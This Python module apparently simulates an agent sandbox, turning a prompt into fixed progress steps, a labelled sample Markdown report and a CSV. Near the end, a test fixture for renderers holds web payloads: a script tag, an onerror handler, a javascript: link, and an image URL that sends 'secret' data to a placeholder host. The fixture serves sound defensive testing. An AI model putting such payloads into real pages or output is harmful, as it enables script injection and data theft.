"""What the sandbox shows and hands back for a prompt: steps, a Markdown result, a CSV. The same for the same prompt. Pure."""

import hashlib
from typing import Final

import msgspec

from codetether_platform.tasks.agents.sandbox_words import Kind, Topic, topic_of

FORMATS: Final = ("Short list", "Table", "Full report")

_DISCLAIMER: Final = (
    "**Sandbox result.** No model wrote this: the sandbox made it from the words of the prompt, by fixed rules. "
    "Names and figures are samples, the same for the same prompt."
)
#: Between the first and the last step; `{it}` is the material.
_MIDDLE: Final[dict[Kind, tuple[str, ...]]] = {
    "summary": ("Collecting {it}", "Grouping {it} by topic", "Picking out what changed", "Counting what came up most"),
    "research": ("Working out what to look for", "Looking through {it}", "Comparing what was found", "Checking for gaps"),
    "writing": ("Choosing tone and length", "Outlining {it}", "Writing a first draft", "Tightening the wording"),
    "data": ("Collecting {it}", "Cleaning up {it}", "Adding up the figures", "Looking for outliers"),
    "code": ("Reading {it}", "Finding the places to change", "Working out the change", "Checking the edges"),
    "other": ("Collecting {it}", "Sorting {it}", "Working through {it}", "Checking the details"),
}
_LAST: Final[dict[Kind, str]] = {
    "summary": "Writing the summary",
    "research": "Writing up the findings",
    "writing": "Writing the final version",
    "data": "Writing the table",
    "code": "Writing up the change",
    "other": "Writing the result",
}
_TITLES: Final[dict[Kind, str]] = {
    "summary": "Summary",
    "research": "Findings",
    "writing": "Draft",
    "data": "Figures",
    "code": "Change notes",
    "other": "Result",
}
#: Rows of the sample table: what support and operations people meet in any product.
_ROWS: Final = (
    "Sign-in and access",
    "Billing and invoices",
    "Slow pages",
    "Export and import",
    "E-mail delivery",
    "Mobile app",
    "Permissions",
    "Integrations",
)
_TRENDS: Final = ("rising", "steady", "falling")


class Row(msgspec.Struct, frozen=True):
    """A row of the sample table."""

    topic: str
    items: int
    trend: str


class Script(msgspec.Struct, frozen=True):
    """How the sandbox plays one prompt. `waits_seconds` has one wait for each step."""

    topic: Topic
    messages: tuple[str, ...]
    waits_seconds: tuple[float, ...]
    rows: tuple[Row, ...]

    @property
    def title(self) -> str:
        """The heading of the result."""
        name = _TITLES[self.topic.kind]
        return f"{name}: {self.topic.subject}" if self.topic.subject else name


def script_of(prompt: str) -> Script:
    """Work out four to six steps of 0.4 to 0.8 seconds, and the figures of the result."""
    topic = topic_of(prompt)
    dice = hashlib.sha256(prompt.encode(errors="replace")).digest()
    middle = _MIDDLE[topic.kind]
    left_out = dice[0] % (len(middle) + 1)  # index of a step to leave out; one past the end leaves out none
    kept = [text.format(it=topic.material) for index, text in enumerate(middle) if index != left_out or index == 0]
    messages = ("Reading the request", *kept, _LAST[topic.kind])
    first = dice[1] % len(_ROWS)
    rows = (
        Row(topic=_ROWS[(first + index) % len(_ROWS)], items=3 + dice[2 + index] % 22, trend=_TRENDS[dice[6 + index] % 3])
        for index in range(4)
    )
    return Script(
        topic=topic,
        messages=messages,
        waits_seconds=tuple(0.4 + dice[10 + index] % 41 / 100 for index in range(len(messages))),
        rows=tuple(sorted(rows, key=lambda row: -row.items)),
    )


def result_of(script: Script, *, steps: int, answer: str | None = None) -> str:
    """Write the result. `answer` is what the person chose when asked for a format; other answers get all of it."""
    total = sum(row.items for row in script.rows)
    top = script.rows[0]
    parts = [
        f"# {script.title}",
        _DISCLAIMER,
        f"The run worked through {script.topic.material} in {steps} {'step' if steps == 1 else 'steps'} "
        f"and found {total} items in {len(script.rows)} groups. *{top.topic}* came up most: {top.items} of {total}.",
    ]
    if answer is not None:
        parts.append(f"You answered: {_plain(answer)}.")
    if answer != "Table":
        parts += ["## What stands out", _list(script.rows)]
    if answer != "Short list":
        parts += ["## By group", _table(script.rows)]
    if answer not in {"Table", "Short list"}:
        parts += ["## Next", f"1. Look at *{top.topic}* first.\n2. Compare with the next run of the same task."]
    return "\n\n".join(parts) + "\n"


def csv_of(script: Script) -> bytes:
    """Write the table as CSV (RFC 4180); no value needs quotes."""
    lines = ["topic,items,trend", *(f"{row.topic},{row.items},{row.trend}" for row in script.rows)]
    return "".join(line + "\r\n" for line in lines).encode()


#: What `test:malformed-result` hands back: everything that a renderer must survive.
MALFORMED: Final = (
    "# Sandbox: a result that is not well formed\n\n"
    "<script>document.title = 'script ran'</script>\n\n"
    "<img src=x onerror=\"document.title = 'handler ran'\">\n\n"
    "![picture](https://example.invalid/collect?data=secret) [link](javascript:alert(1)) [open](https://example.invalid\n\n"
    "| a | table | without\n|---|\n| its | rows |\n\n"
    "- a list\n          - far too deep\n\n**bold that never ends, *and `code\n\n"
    "\u202eright to left\u202c \u200bzero\u200bwidth " + "long" * 400 + "\n\n```python\nan open fence\n"
)


def _list(rows: tuple[Row, ...]) -> str:
    return "\n".join(f"- **{row.topic}**: {row.items} items, {row.trend}" for row in rows)


def _table(rows: tuple[Row, ...]) -> str:
    return "\n".join(
        ["| Group | Items | Trend |", "|---|---:|---|", *(f"| {row.topic} | {row.items} | {row.trend} |" for row in rows)]
    )


def _plain(answer: str) -> str:
    """Fold what a person typed into one short line that Markdown reads as text."""
    kept = "".join(char if char.isalnum() or char in " '’,-" else " " for char in answer)
    return " ".join(kept.split())[:120].strip() or "nothing"
